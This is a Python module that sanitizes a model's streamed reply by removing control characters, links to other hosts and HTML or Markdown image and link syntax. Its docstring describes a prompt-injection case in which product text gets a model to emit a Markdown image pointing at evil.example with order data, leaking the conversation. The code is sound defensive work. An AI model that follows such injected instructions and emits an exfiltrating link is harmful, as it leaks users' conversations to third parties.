"""Sanitizing of a model's reply: plain text without HTML, images and links to other hosts.

A product text can instruct a model to emit `![](https://evil.example/?order=...)`. Rendered as Markdown, that image
would leak the conversation.
"""

import re
from typing import Final

LINK_REMOVED: Final = "[link removed]"
# Longer words are split, which bounds the buffer.
WORD_CHARACTERS_MAX: Final = 200

# Control characters, lone surrogates and bidirectional controls.
_UNSAFE_CHARACTERS: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
)
_LINKS: Final = re.compile(
    r"(?:[a-z][a-z0-9+.-]*:/+|(?<![\w/:])//|\bwww\.)\S*|\b(?:javascript|data|vbscript|mailto|tel):\S+", re.IGNORECASE
)
_SPACE: Final = re.compile(r"\s")


class ReplySanitizer:
    """Sanitize a reply word by word as it streams. `own_origin` may appear as plain text."""

    def __init__(self, own_origin: str) -> None:
        self._own = own_origin.rstrip("/").lower()
        self._buffer = ""

    def feed(self, piece: str) -> str:
        """Return the complete words so far."""
        self._buffer += _UNSAFE_CHARACTERS.sub("", piece)
        end = max((found.end() for found in _SPACE.finditer(self._buffer)), default=0)
        ready, self._buffer = self._buffer[:end], self._buffer[end:]
        shown = self._sanitize(ready)
        while len(self._buffer) > WORD_CHARACTERS_MAX:
            broken, self._buffer = self._buffer[:WORD_CHARACTERS_MAX], self._buffer[WORD_CHARACTERS_MAX:]
            shown += self._sanitize(broken) + " "
        return shown

    def flush(self) -> str:
        """Return the buffered rest at the end of the reply."""
        ready, self._buffer = self._buffer, ""
        return self._sanitize(ready)

    def _sanitize(self, text: str) -> str:
        if not text:
            return ""
        return "".join(self._sanitize_word(word) for word in re.split(r"(\s+)", text))

    def _sanitize_word(self, word: str) -> str:
        parts = [word[at : at + WORD_CHARACTERS_MAX] for at in range(0, len(word), WORD_CHARACTERS_MAX)]
        return " ".join(_escape_markup(self._without_links(part)) for part in parts)

    def _without_links(self, word: str) -> str:
        return _LINKS.sub(lambda found: found[0] if self._is_own(found[0]) else LINK_REMOVED, word)

    def _is_own(self, address: str) -> bool:
        lowered = address.lower()
        return lowered == self._own or lowered.startswith(f"{self._own}/")


def _escape_markup(word: str) -> str:
    """Neutralize HTML, and links, images and references of Markdown."""
    return (
        word.replace("<", "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}")
        .replace("](", "] (")
        .replace("]:", "] :")
        .replace("![", "! [")
    )
